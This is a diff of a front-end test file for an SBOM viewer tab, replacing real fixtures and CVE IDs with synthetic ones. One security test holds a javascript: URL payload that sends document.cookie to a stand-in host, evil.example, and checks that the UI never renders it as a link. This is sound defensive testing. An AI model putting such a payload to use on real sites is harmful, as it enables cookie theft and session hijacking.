@@ -4,7 +4,7 @@ import userEvent from '@testing-library/user-event';
 import type MockAdapter from 'axios-mock-adapter';
 import { mockHttp, renderRoute, REPORTS } from '../../testing/renderRoute';
 import { report } from '../../testing/reports';
-import { juiceShopWithOsvFindings, loadSbom, SBOM_FILES } from '../../testing/sbomFixtures';
+import { generatedSbom, loadSbom, SBOM_FILES, withFindings } from '../../testing/sbomFixtures';
 
 // The real chart needs a browser layout engine; the test reads what the tab hands it and counts draws.
 const mockChartDraws: string[] = [];
@@ -58,9 +58,9 @@ describe('SBOM tab', () => {
   }
 
   it('summarises a CycloneDX 1.7 file and charts its severities and component types', async () => {
-    await open(loadSbom(SBOM_FILES.trivy));
-    expect(summary('Component')).toBe('testdata/fixtures/repo/npm');
-    expect(summary('Generated')).toBe(new Date('2021-08-25T12:20:30+00:00').toLocaleString());
+    await open(loadSbom(SBOM_FILES.shop));
+    expect(summary('Component')).toBe('example/shop');
+    expect(summary('Generated')).toBe(new Date('2026-03-02T10:20:30+00:00').toLocaleString());
     expect(summary('CycloneDX')).toBe('1.7');
     expect(screen.getByTestId('sbom-component-count')).toHaveTextContent('13');
     expect(screen.getByTestId('sbom-vulnerability-count')).toHaveTextContent('1');
@@ -69,10 +69,10 @@ describe('SBOM tab', () => {
   });
 
   it.each([
-    ['a 1.4 file: metadata.component, not the tools array', SBOM_FILES.juiceShop, true, 'juice-shop 14.1.1'],
-    ['a 1.4 file without metadata.component: the first of tools[]', SBOM_FILES.juiceShop, false, 'cyclonedx-library 1.13.3'],
-    ['a 1.7 file: metadata.component, not tools.components', SBOM_FILES.trivy, true, 'testdata/fixtures/repo/npm'],
-    ['a 1.7 file without metadata.component: the first of tools.components', SBOM_FILES.trivy, false, 'trivy dev'],
+    ['a 1.4 file: metadata.component, not the tools array', SBOM_FILES.portal, true, 'portal 7.12.0'],
+    ['a 1.4 file without metadata.component: the first of tools[]', SBOM_FILES.portal, false, 'example-bom-library 3.2.1'],
+    ['a 1.7 file: metadata.component, not tools.components', SBOM_FILES.shop, true, 'example/shop'],
+    ['a 1.7 file without metadata.component: the first of tools.components', SBOM_FILES.shop, false, 'hand-written 1.0'],
     ['a VEX-only file without metadata', SBOM_FILES.vexOnly, true, 'N/A'],
   ])('names the root component of %s', async (_, file, keepRoot, expected) => {
     const sbom = loadSbom(file);
@@ -82,13 +82,16 @@ describe('SBOM tab', () => {
 
   describe('Components table', () => {
     it('shows 10 rows by name, with N/A for a missing group or license, and pages 5/10/25', async () => {
-      const sbom = loadSbom(SBOM_FILES.juiceShop);
+      // 1,115 generated components pkg-0000 … pkg-1114; pkg-0000 is at 1.0.0 and MIT-licensed.
+      const sbom = generatedSbom(1115);
       await open(sbom);
       const names = sbom.components.map((c) => c.name).sort((a, b) => (a < b ? -1 : a > b ? 1 : 0));
       expect(column('Components', 0)).toEqual(names.slice(0, 10));
+      expect(names.slice(0, 2)).toEqual(['pkg-0000', 'pkg-0001']);
       expect(screen.getByText('1–10 of 1,115')).toBeInTheDocument();
-      const abbrev = rowsOf('Components')[0]!;
-      expect(within(abbrev).getAllByRole('cell').map((c) => c.textContent)).toEqual(['abbrev', 'library', '1.1.1', 'N/A', 'ISC']);
+      const first = rowsOf('Components')[0]!;
+      expect(within(first).getAllByRole('cell').map((c) => c.textContent)).toEqual(['pkg-0000', 'library', '1.0.0', 'N/A', 'MIT']);
+      expect(within(rowsOf('Components')[1]!).getAllByRole('cell').map((c) => c.textContent)).toEqual(['pkg-0001', 'library', '2.1.0', 'N/A', 'N/A']);
 
       await userEvent.click(screen.getByRole('combobox', { name: /Rows per page/ }));
       expect((await screen.findAllByRole('option')).map((o) => o.textContent)).toEqual(['5', '10', '25']);
@@ -100,36 +103,38 @@ describe('SBOM tab', () => {
     });
 
     it('sorts by Name, Type and Version, each click flipping the direction', async () => {
-      const sbom = loadSbom(SBOM_FILES.trivy);
+      // The shop's 13 components, by hand: cookies (the @example scope is its group), jquery, js-tokens,
+      // lodash ×2, loose-envify, minimist ×2, package-lock.json, react, semver ×3.
+      const sbom = loadSbom(SBOM_FILES.shop);
       await open(sbom);
-      expect(column('Components', 0)).toEqual(['asap', 'jquery', 'js-tokens', 'loose-envify', 'object-assign', 'package-lock.json', 'promise', 'prop-types', 'react', 'react-is']);
+      expect(column('Components', 0)).toEqual(['cookies', 'jquery', 'js-tokens', 'lodash', 'lodash', 'loose-envify', 'minimist', 'minimist', 'package-lock.json', 'react']);
       await userEvent.click(screen.getByRole('button', { name: 'Name' }));
-      expect(column('Components', 0)!.slice(0, 3)).toEqual(['symbol-observable', 'scheduler', 'redux']);
+      expect(column('Components', 0)!.slice(0, 4)).toEqual(['semver', 'semver', 'semver', 'react']);
       await userEvent.click(screen.getByRole('button', { name: 'Type' }));
       expect(column('Components', 1)![0]).toBe('application');
       await userEvent.click(screen.getByRole('button', { name: 'Version' }));
-      // Numbers compare by value (0.13.6 before 1.2.0, 15.7.2 before 16.8.6).
-      expect(column('Components', 2)).toEqual(['0.13.6', '1.2.0', '1.4.0', '2.0.6', '3.3.9', '4.0.0', '4.0.1', '4.1.1', '8.0.3', '15.7.2']);
+      // Numbers compare by value (4.0.0 before 4.17.20, 7.3.8 before 18.2.0).
+      expect(column('Components', 2)).toEqual(['0.2.3', '1.0.0', '1.2.8', '1.4.0', '3.4.1', '4.0.0', '4.17.20', '4.17.21', '5.7.1', '6.3.0']);
       const components = screen.getByRole('region', { name: 'Components' });
       await userEvent.click(within(components).getByRole('button', { name: 'Go to next page' }));
-      expect(column('Components', 2)).toEqual(['16.8.6', '16.8.6', 'N/A']);
+      expect(column('Components', 2)).toEqual(['7.3.8', '18.2.0', 'N/A']);
       await userEvent.click(screen.getByRole('button', { name: 'Version' }));
-      expect(column('Components', 2)!.slice(0, 3)).toEqual(['16.8.6', '16.8.6', '15.7.2']);
+      expect(column('Components', 2)!.slice(0, 3)).toEqual(['18.2.0', '7.3.8', '6.3.0']);
       // A missing version stays last in both directions.
       await userEvent.click(within(components).getByRole('button', { name: 'Go to next page' }));
       expect(column('Components', 2)!.at(-1)).toBe('N/A');
     });
 
     it('opens the component dialog on a row', async () => {
-      await open(loadSbom(SBOM_FILES.trivy));
+      await open(loadSbom(SBOM_FILES.shop));
       await userEvent.click(screen.getByText('jquery'));
-      const dialog = await screen.findByRole('dialog', { name: 'jquery 3.3.9' });
+      const dialog = await screen.findByRole('dialog', { name: 'jquery 3.4.1' });
       expect(within(dialog).getByText('library')).toBeInTheDocument();
-      expect(within(dialog).getByText('pkg:npm/jquery@3.3.9')).toBeInTheDocument();
+      expect(within(dialog).getByText('pkg:npm/jquery@3.4.1')).toBeInTheDocument();
       expect(within(dialog).getByText('MIT')).toBeInTheDocument();
       const properties = within(dialog).getByRole('table', { name: 'Properties' });
-      expect(within(properties).getByText('aquasecurity:trivy:PkgID')).toBeInTheDocument();
-      expect(within(properties).getByText('jquery@3.3.9')).toBeInTheDocument();
+      expect(within(properties).getByText('example:PkgID')).toBeInTheDocument();
+      expect(within(properties).getByText('jquery@3.4.1')).toBeInTheDocument();
       await userEvent.click(within(dialog).getByRole('button', { name: 'Close' }));
       await waitFor(() => expect(screen.queryByRole('dialog')).not.toBeInTheDocument());
     });
@@ -137,13 +142,13 @@ describe('SBOM tab', () => {
 
   describe('Vulnerabilities table', () => {
     it('is not shown without vulnerabilities, and the pie says so', async () => {
-      await open(loadSbom(SBOM_FILES.juiceShop));
+      await open(loadSbom(SBOM_FILES.portal));
       expect(screen.queryByRole('table', { name: 'Vulnerabilities' })).not.toBeInTheDocument();
       expect(within(screen.getByRole('region', { name: 'Vulnerability Severity' })).getByText('No vulnerabilities found')).toBeInTheDocument();
     });
 
     it('lists the highest severity first by default, 10 a page, sortable by ID and Severity', async () => {
-      await open(juiceShopWithOsvFindings());
+      await open(withFindings());
       expect(screen.getByTestId('sbom-vulnerability-count')).toHaveTextContent('85');
       expect(chart('Vulnerability Severity')).toEqual({ Critical: 7, High: 40, Medium: 23, Low: 6, Unknown: 9 });
       const table = screen.getByRole('table', { name: 'Vulnerabilities' });
@@ -151,22 +156,26 @@ describe('SBOM tab', () => {
       expect(rowsOf('Vulnerabilities')).toHaveLength(10);
       expect(screen.getByText('1–10 of 85')).toBeInTheDocument();
       expect(column('Vulnerabilities', 1)).toEqual([...Array(7).fill('Critical'), 'High', 'High', 'High']);
-      expect(column('Vulnerabilities', 0)![0]).toBe('GHSA-8g7p-74h8-hg48');
+      // Ties within a severity go by id, numbers by value: CVE-2999-1 heads the critical ones.
+      expect(column('Vulnerabilities', 0)![0]).toBe('CVE-2999-1');
       expect(column('Vulnerabilities', 2)![0]).toBe('OSV');
 
       await userEvent.click(within(table).getByRole('button', { name: 'Severity' }));
       expect(column('Vulnerabilities', 1)).toEqual(Array(9).fill('Unknown').concat('Low'));
-      expect(column('Vulnerabilities', 0)![0]).toMatch(/^MAL-/);
+      expect(column('Vulnerabilities', 0)![0]).toBe('MAL-2999-1');
 
       await userEvent.click(within(table).getByRole('button', { name: 'Vulnerability ID' }));
-      const ids = column('Vulnerabilities', 0);
-      expect(ids.every((id) => id!.startsWith('GHSA-'))).toBe(true);
+      expect(column('Vulnerabilities', 0)).toEqual([
+        'CVE-2999-1', 'CVE-2999-9', 'CVE-2999-10', 'CVE-2999-11', 'CVE-2999-99', 'CVE-2999-100', 'CVE-2999-1000',
+        'GHSA-test-high-1', 'GHSA-test-high-2', 'GHSA-test-high-3',
+      ]);
       await userEvent.click(within(table).getByRole('button', { name: 'Vulnerability ID' }));
-      expect(column('Vulnerabilities', 0)![0]).toMatch(/^MAL-2025-/);
+      expect(column('Vulnerabilities', 0)![0]).toBe('MAL-2999-9');
     });
 
     it('names affected components, "+N more" past three', async () => {
-      await open(juiceShopWithOsvFindings());
+      // Sorted by id the page holds CVE-2999-1000 and CVE-2999-9, which affect four components each.
+      await open(withFindings());
       await userEvent.click(within(screen.getByRole('table', { name: 'Vulnerabilities' })).getByRole('button', { name: 'Vulnerability ID' }));
       const cells = column('Vulnerabilities', 3);
       expect(cells.some((text) => /^[^,]+@[\d.]+$/.test(text!))).toBe(true);
@@ -174,40 +183,40 @@ describe('SBOM tab', () => {
     });
 
     it('opens the vulnerability dialog with ratings, advisories (safe links) and dates', async () => {
-      const sbom = loadSbom(SBOM_FILES.trivy);
+      const sbom = loadSbom(SBOM_FILES.shop);
       await open(sbom);
-      await userEvent.click(screen.getByText('CVE-2019-11358'));
-      const dialog = await screen.findByRole('dialog', { name: 'CVE-2019-11358' });
+      await userEvent.click(screen.getByText('CVE-2999-1005'));
+      const dialog = await screen.findByRole('dialog', { name: 'CVE-2999-1005' });
       expect(within(dialog).getAllByText('Medium').length).toBeGreaterThan(0);
       const source = within(dialog).getByRole('link', { name: 'ghsa' });
-      expect(source).toHaveAttribute('href', 'https://github.com/advisories?query=type%3Areviewed+ecosystem%3Anpm');
-      expect(within(dialog).getByText(/jQuery before 3.4.0/)).toBeInTheDocument();
-      expect(within(dialog).getByText('Upgrade jquery to version 3.4.0')).toBeInTheDocument();
-      expect(within(dialog).getByText('jquery@3.3.9')).toBeInTheDocument();
-      expect(within(dialog).getByText(new Date('2019-04-20T00:29:00+00:00').toLocaleString())).toBeInTheDocument();
-      expect(within(dialog).getByText(new Date('2021-10-20T11:15:00+00:00').toLocaleString())).toBeInTheDocument();
+      expect(source).toHaveAttribute('href', 'https://example.com/advisories?ecosystem=npm');
+      expect(within(dialog).getByText(/jquery from 1.2.0 before 3.5.0/)).toBeInTheDocument();
+      expect(within(dialog).getByText('Upgrade jquery to version 3.5.0')).toBeInTheDocument();
+      expect(within(dialog).getByText('jquery@3.4.1')).toBeInTheDocument();
+      expect(within(dialog).getByText(new Date('2026-02-01T00:29:00+00:00').toLocaleString())).toBeInTheDocument();
+      expect(within(dialog).getByText(new Date('2026-02-15T11:15:00+00:00').toLocaleString())).toBeInTheDocument();
 
       const ratings = within(dialog).getByRole('table', { name: 'Ratings' });
       expect(within(ratings).getAllByRole('row')).toHaveLength(1 + sbom.vulnerabilities[0]!.ratings.length);
       const nvd31 = within(ratings).getByText('CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N').closest('tr')!;
       expect(within(nvd31).getAllByRole('cell').map((c) => c.textContent)).toEqual(['nvd', 'Medium', 'CVSSv31', '6.1', 'CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N']);
 
-      const advisory = within(dialog).getByRole('link', { name: 'https://avd.aquasec.com/nvd/cve-2019-11358' });
+      const advisory = within(dialog).getByRole('link', { name: 'https://example.com/advisories/CVE-2999-1005' });
       expect(advisory).toHaveAttribute('target', '_blank');
       expect(advisory).toHaveAttribute('rel', 'noopener noreferrer');
       expect(within(dialog).getAllByRole('link')).toHaveLength(1 + sbom.vulnerabilities[0]!.advisories.length);
     });
 
     it('never turns a javascript: URL from the SBOM into a link', async () => {
-      const sbom = loadSbom(SBOM_FILES.trivy);
+      const sbom = loadSbom(SBOM_FILES.shop);
       const evil = 'javascript:fetch("https://evil.example/?c="+document.cookie)';
       const vulnerability = { ...sbom.vulnerabilities[0]!, source: { name: 'ghsa', url: evil }, advisories: [{ title: 'Read me', url: evil }] };
       const jquery = sbom.components.find((c) => c.name === 'jquery')!;
       const components = sbom.components.map((c) => (c === jquery ? { ...c, licenses: [{ license: { id: 'MIT', url: evil } }] } : c));
       await open({ ...sbom, components, vulnerabilities: [vulnerability] });
 
-      await userEvent.click(screen.getByText('CVE-2019-11358'));
-      const dialog = await screen.findByRole('dialog', { name: 'CVE-2019-11358' });
+      await userEvent.click(screen.getByText('CVE-2999-1005'));
+      const dialog = await screen.findByRole('dialog', { name: 'CVE-2999-1005' });
       expect(within(dialog).getByText('Read me').closest('a')).toBeNull();
       const source = within(dialog).getAllByText('Source').find((el) => el.tagName === 'DT')!;
       expect(source.nextElementSibling).toHaveTextContent('ghsa');
@@ -218,18 +227,18 @@ describe('SBOM tab', () => {
       await waitFor(() => expect(screen.queryByRole('dialog')).not.toBeInTheDocument());
 
       await userEvent.click(screen.getByText('jquery'));
-      const component = await screen.findByRole('dialog', { name: 'jquery 3.3.9' });
+      const component = await screen.findByRole('dialog', { name: 'jquery 3.4.1' });
       expect(within(component).getByText('MIT').closest('a')).toBeNull();
       expect(document.querySelector('a[href^="javascript"]')).toBeNull();
     });
 
     it('shows affected components of a VEX-only BOM by their ref', async () => {
       await open(loadSbom(SBOM_FILES.vexOnly));
-      const ref = 'urn:cdx:3e671687-395b-41f5-a30f-a58921a69b79/1#pkg:maven/com.fasterxml.jackson.core/jackson-databind@2.10.0?type=jar';
+      const ref = 'urn:cdx:5b0c1f0e-2b7a-4c55-8d4e-0000000000aa/1#pkg:maven/com.example/xml-binding@2.10.0?type=jar';
       expect(column('Vulnerabilities', 3)).toEqual([ref]);
       expect(column('Vulnerabilities', 1)).toEqual(['High']);
-      await userEvent.click(screen.getByText('CVE-2020-25649'));
-      const dialog = await screen.findByRole('dialog', { name: 'CVE-2020-25649' });
+      await userEvent.click(screen.getByText('CVE-2999-2001'));
+      const dialog = await screen.findByRole('dialog', { name: 'CVE-2999-2001' });
       expect(within(dialog).getByText(ref)).toBeInTheDocument();
       expect(within(dialog).getByText('(not listed in this SBOM)')).toBeInTheDocument();
       expect(within(dialog).getByText(/XXE Injection is a type of attack/)).toBeInTheDocument();
@@ -244,7 +253,7 @@ describe('SBOM tab', () => {
   });
 
   it('narrows the tables and the severity pie to the chosen component type', async () => {
-    await open(loadSbom(SBOM_FILES.trivy));
+    await open(loadSbom(SBOM_FILES.shop));
     expect(screen.getByRole('combobox', { name: 'Filter by Component Type' })).toHaveTextContent('All Types');
     await userEvent.click(screen.getByRole('combobox', { name: 'Filter by Component Type' }));
     expect((await screen.findAllByRole('option')).map((o) => o.textContent)).toEqual(['All Types', 'library (12)', 'application (1)']);
@@ -256,7 +265,7 @@ describe('SBOM tab', () => {
     await userEvent.click(screen.getByRole('combobox', { name: 'Filter by Component Type' }));
     await userEvent.click(await screen.findByRole('option', { name: 'library (12)' }));
     expect(rowsOf('Components')).toHaveLength(10);
-    expect(column('Vulnerabilities', 0)).toEqual(['CVE-2019-11358']);
+    expect(column('Vulnerabilities', 0)).toEqual(['CVE-2999-1005']);
   });
 
   it('says "No SBOM data available." when none was uploaded (404)', async () => {
@@ -272,7 +281,7 @@ describe('SBOM tab', () => {
   });
 
   it('renders one page of a 10,000-component, 3,000-vulnerability SBOM and never redraws the charts for the tables', async () => {
-    const base = juiceShopWithOsvFindings();
+    const base = withFindings();
     const components = Array.from({ length: 10_000 }, (_, i) => {
       const c = base.components[i % base.components.length]!;
       return { ...c, 'bom-ref': `${c['bom-ref']}#${i}`, version: `${c.version}-${Math.floor(i / base.components.length)}` };
